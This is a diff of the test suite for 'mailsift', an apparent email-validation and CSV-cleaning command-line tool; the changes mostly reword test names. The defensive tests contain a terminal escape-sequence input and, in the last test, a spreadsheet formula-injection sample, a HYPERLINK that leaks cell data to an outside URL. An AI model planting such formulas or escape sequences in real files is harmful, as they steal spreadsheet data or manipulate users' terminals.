@@ -8,11 +8,11 @@ import { writeBigCsv } from './support/big-csv.ts'
 import { makeFolder } from './support/folder.ts'
 import { CLEAN_ENV, EXAMPLE, jsonLines, mailsift, mailsiftBytes, PROGRAM } from './support/mailsift.ts'
 
-/** One row for every kind of answer. */
+/** One row for each kind of outcome. */
 const CSV = 'name,email\nAda,ada.lovelace@contoso.com\nDesk,info@contoso.com\nNobody,nobody\nRagged\n'
 
 describe('validate --local', () => {
-  test('says of each address what it is, in the order given', async () => {
+  test('prints the verdict of each address, in the given order', async () => {
     const { code, stdout, stderr } = await mailsift([
       'validate',
       '--local',
@@ -28,7 +28,7 @@ describe('validate --local', () => {
     )
   })
 
-  test('says risky of a forwarding address, as the console and the list do', async () => {
+  test('prints risky for a forwarding address, like the console and the list', async () => {
     const address = 'abc123@privaterelay.appleid.com'
     const { stdout } = await mailsift(['validate', '--local', address])
     expect(stdout).toBe(`risky      ${address}  Forwarding address\n`)
@@ -49,7 +49,7 @@ describe('validate --local', () => {
     ])
   })
 
-  test('a byte order mark before the first line belongs to no address', async () => {
+  test('a byte order mark before the first line is not part of an address', async () => {
     const input = '\ufeffada.lovelace@contoso.com\r\n\ufeffada.lovelace@contoso.com\r\n'
     const { stdout } = await mailsift(['validate', '--local', '-'], { input })
     expect(stdout).toBe(
@@ -57,7 +57,7 @@ describe('validate --local', () => {
     )
   })
 
-  test('answers a line while the next one is still being typed', async () => {
+  test('prints a result while the next line is still being typed', async () => {
     const child = spawn(process.execPath, [PROGRAM, 'validate', '--local', '-'], { env: CLEAN_ENV })
     const answer = new Promise<string>((resolve) => child.stdout.setEncoding('utf8').once('data', resolve))
     child.stdin.write('ada.lovelace@contoso.com\n')
@@ -74,7 +74,7 @@ describe('validate --local', () => {
     expect(jsonLines(json.stdout)[0].reasons.map(({ code }: { code: string }) => code)).toEqual(['disposable', 'role'])
   })
 
-  test('names each reason, also those that have no flag on the wire', async () => {
+  test('names each reason, including those without a flag on the wire', async () => {
     const { stdout } = await mailsift([
       ...['validate', '--local', 'bob.miller@gmial.com', '1anna.lee@yahoo.com', 'ada.lovelace@example.com'],
       'ada.lovelace@contoso.nosuchend',
@@ -88,7 +88,7 @@ describe('validate --local', () => {
     ])
   })
 
-  test('--explain says what was probably meant, of a malformed address too', async () => {
+  test('--explain suggests the intended address, also for a malformed one', async () => {
     const { stdout } = await mailsift(['validate', '--local', '--explain', 'bob.miller@gmial.com', 'john.smith@gmail'])
     expect(stdout).toMatch(/^ {2}did you mean +bob\.miller@gmail\.com$/m)
     expect(stdout).toMatch(
@@ -98,7 +98,7 @@ describe('validate --local', () => {
     expect(jsonLines(json.stdout)[0].suggestion).toBe('bob.miller@gmail.com')
   })
 
-  test('shows what a terminal would obey instead of sending it there', async () => {
+  test('escapes control characters instead of sending them to the terminal', async () => {
     const { stdout } = await mailsift(['validate', '--local', 'a\x1b[2J\u202eb'])
     expect(stdout).toMatch(/^malformed {2}a\\u\{1b\}\[2J\\u\{202e\}b {2}/)
   })
@@ -117,7 +117,7 @@ describe('clean --local', () => {
   const clean = (args: string[], input: string | Buffer = CSV) =>
     mailsift(['clean', '--local', '-', ...args], { input })
 
-  test('gives every row back as it was, with its answer', async () => {
+  test('returns every row unchanged, with its result', async () => {
     const { code, stdout, stderr } = await clean([])
     expect(code).toBe(0)
     expect(stderr).toMatch(/^Email column: "email"\.\nstdin: 4 rows, 3 addresses .*\n {2}safe +1 +25\.0%\n/)
@@ -140,7 +140,7 @@ describe('clean --local', () => {
     ])
   })
 
-  test('--allow, --caution and --refuse override single reasons, and list the known ones', async () => {
+  test('--allow, --caution and --refuse override single reasons, and an unknown one is refused with the known ones', async () => {
     const statusOf = async (...args: string[]) => {
       const rows = parse((await clean(args)).stdout, { columns: true }) as Record<string, string>[]
       return rows.find(({ name }) => name === 'Desk')!.status
@@ -153,7 +153,7 @@ describe('clean --local', () => {
     expect(stderr).toMatch(/--allow knows .*role, .*, not "roles"/)
   })
 
-  test('--only leaves the rows out that have another status', async () => {
+  test('--only omits rows with other statuses', async () => {
     const names = async (only: string) =>
       (await clean(['--only', only])).stdout.split('\n').map((line) => line.split(',')[0])
     expect(await names('safe')).toEqual(['name', 'Ada', ''])
@@ -161,7 +161,7 @@ describe('clean --local', () => {
     expect(await names('blank')).toEqual(['name', 'Ragged', ''])
   })
 
-  test('a ragged row is padded and validated: no column shifts, and what is too much stays behind ours', async () => {
+  test('a ragged row is padded and validated: no column shifts, and extra fields follow ours', async () => {
     const { stdout } = await clean(
       ['--columns', 'short'],
       'id,email,name\n1,b.miller@gmail.com\n2,c.miller@gmail.com,C,more,"and, more"\n3,d.miller@gmail.com,D\n',
@@ -206,7 +206,7 @@ describe('clean --local', () => {
   test('a list in one line is not repeated for each of its addresses', async () => {
     const folder = await makeFolder()
     const addresses = Array.from({ length: 4000 }, (_, at) => `grace.hopper${at}@contoso.com`)
-    // Longer than what is looked at to find out how a list is written.
+    // Longer than the sample used to detect the format.
     const line = addresses.join('; ')
     expect(line.length).toBeGreaterThan(64 * 1024)
     await writeFile(join(folder, 'line.txt'), line)
@@ -223,12 +223,12 @@ describe('clean --local', () => {
     }
   })
 
-  test('--fail-on unsafe ends with 10 when a row is not safe', async () => {
+  test('--fail-on unsafe exits with 10 if a row is not safe', async () => {
     expect((await clean(['--fail-on', 'unsafe'])).code).toBe(10)
     expect((await clean(['--fail-on', 'unsafe'], 'email\nada.lovelace@contoso.com\n')).code).toBe(0)
   })
 
-  test('a reader that closes the pipe early ends it quietly', async () => {
+  test('a reader that closes the pipe early ends the command quietly', async () => {
     const file = join(await makeFolder(), 'in.csv')
     await writeBigCsv(file, { rows: 20_000 })
     const line = `"$0" "$1" clean --local "$2" | head -n 1`
@@ -264,7 +264,7 @@ describe('the email column', () => {
     expect(await columnOf(input)).toBe(expected)
   })
 
-  test('is taken as it is named', async () => {
+  test('is the one given', async () => {
     const two = 'home,work\nh@contoso.com,w@contoso.com\n'
     expect(await columnOf(two, ['--column', 'work'])).toBe('w@contoso.com')
     expect(await columnOf(two, ['-c', 'HOME'])).toBe('h@contoso.com')
@@ -313,7 +313,7 @@ describe('the example file', () => {
     expect(rows.some((row) => /[^\p{ASCII}]/u.test(row['E-Mail']!))).toBe(true)
   })
 
-  test('a formula of ours is disarmed, one of theirs stays theirs', async () => {
+  test("a formula in our cells is escaped, one in the input's cells is unchanged", async () => {
     const { stdout } = await mailsift(['clean', '--local', EXAMPLE])
     expect(stdout).toContain('"=HYPERLINK(""http://contoso.com/?leak=""&A1,""Open invoice"")"')
     expect(stdout).toContain(",'=sum@contoso.com,")
